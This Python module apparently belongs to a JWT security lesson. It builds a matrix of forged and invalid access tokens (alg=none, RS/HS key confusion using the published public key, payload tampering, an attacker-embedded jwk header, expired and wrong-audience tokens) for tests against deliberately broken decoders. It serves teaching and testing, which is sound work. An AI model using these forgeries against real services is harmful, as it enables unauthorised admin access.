"""Forged and invalid access tokens: the attack matrix of the lesson's "Break it".

Used by `tests/test_forgery.py` and `examples/03_forge_tokens.py`. Attack code, kept in the
package so the README can point at it; an API would never ship this.

Every forgery claims `sub` = `subject` and `scope` = "admin". The attacker knows what
anybody knows: the token format, the issuer and audience, and our *public* keys (we
publish them at `/.well-known/jwks.json`). Where a case needs a token we really signed
(expired, wrong audience...), it stands for a token that leaked or was issued elsewhere.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import jwt
from jwt.algorithms import RSAAlgorithm

from authdemo import KeySet, TokenSettings
from authdemo.broken import decode_alg_from_header, decode_peek_then_trust
from authdemo.keys import public_pem


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def claims(settings: TokenSettings, subject: str, **overrides: Any) -> dict[str, Any]:
    now = int(time.time())
    base: dict[str, Any] = {
        "iss": settings.issuer,
        "aud": settings.audience,
        "sub": subject,
        "iat": now,
        "nbf": now,
        "exp": now + 300,
        "jti": "forged",
        "scope": "admin",
    }
    base.update(overrides)
    return base


def header(keys: KeySet, **overrides: Any) -> dict[str, Any]:
    return {"alg": "RS256", "typ": "at+jwt", "kid": keys.signing_kid, **overrides}


def signed(keys: KeySet, payload: dict[str, Any], **head: Any) -> str:
    """A token signed with our real private key."""
    extra = {k: v for k, v in header(keys, **head).items() if k != "alg"}
    return jwt.encode(payload, keys.signing_key, algorithm="RS256", headers=extra)


def raw(head: dict[str, Any], payload: dict[str, Any], sign: Callable[[bytes], bytes]) -> str:
    first = f"{b64(json.dumps(head).encode())}.{b64(json.dumps(payload).encode())}"
    return f"{first}.{b64(sign(first.encode()))}"


def alg_none(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    return raw(header(keys, alg="none"), claims(s, sub), lambda _: b"")


def hs256_with_public_key(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    """RS/HS confusion: HMAC keyed with the PEM of our published RSA public key."""
    secret = public_pem(keys.verify_keys[keys.signing_kid])
    return raw(
        header(keys, alg="HS256"),
        claims(s, sub),
        lambda data: hmac.new(secret, data, hashlib.sha256).digest(),
    )


def expired(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    now = int(time.time())
    return signed(keys, claims(s, sub, iat=now - 3600, nbf=now - 3600, exp=now - 1800))


def not_yet_valid(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    now = int(time.time())
    return signed(keys, claims(s, sub, iat=now + 3600, nbf=now + 3600, exp=now + 7200))


def wrong_audience(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    return signed(keys, claims(s, sub, aud="billing-api"))


def wrong_issuer(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    return signed(keys, claims(s, sub, iss="https://evil.example"))


def tampered_payload(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    """A real token for scope "", its payload swapped for one with scope "admin"."""
    genuine = signed(keys, claims(s, sub, scope=""))
    head, _, signature = genuine.split(".")
    return f"{head}.{b64(json.dumps(claims(s, sub)).encode())}.{signature}"


def unknown_kid(keys: KeySet, attacker: KeySet, s: TokenSettings, sub: str) -> str:
    """Signed with the attacker's own key, whose public half rides in the `jwk` header."""
    jwk = json.loads(RSAAlgorithm.to_jwk(attacker.verify_keys[attacker.signing_kid]))
    return jwt.encode(
        claims(s, sub),
        attacker.signing_key,
        algorithm="RS256",
        headers={"typ": "at+jwt", "kid": "attacker", "jwk": jwk},
    )


Decoder = Callable[[str, KeySet], dict[str, Any]]


def peek_then_trust(token: str, keys: KeySet) -> dict[str, Any]:
    return decode_peek_then_trust(token)


@dataclass(frozen=True)
class Forgery:
    name: str
    make: Callable[[KeySet, KeySet, TokenSettings, str], str]
    broken: Decoder  # the broken decoder that accepts it, demonstrating its bug


MATRIX = [
    Forgery("alg-none", alg_none, decode_alg_from_header),
    Forgery("hs256-public-key", hs256_with_public_key, decode_alg_from_header),
    Forgery("expired", expired, decode_alg_from_header),
    Forgery("not-yet-valid", not_yet_valid, decode_alg_from_header),
    Forgery("wrong-aud", wrong_audience, decode_alg_from_header),
    Forgery("wrong-iss", wrong_issuer, decode_alg_from_header),
    Forgery("tampered-payload", tampered_payload, peek_then_trust),
    Forgery("unknown-kid", unknown_kid, decode_alg_from_header),
]
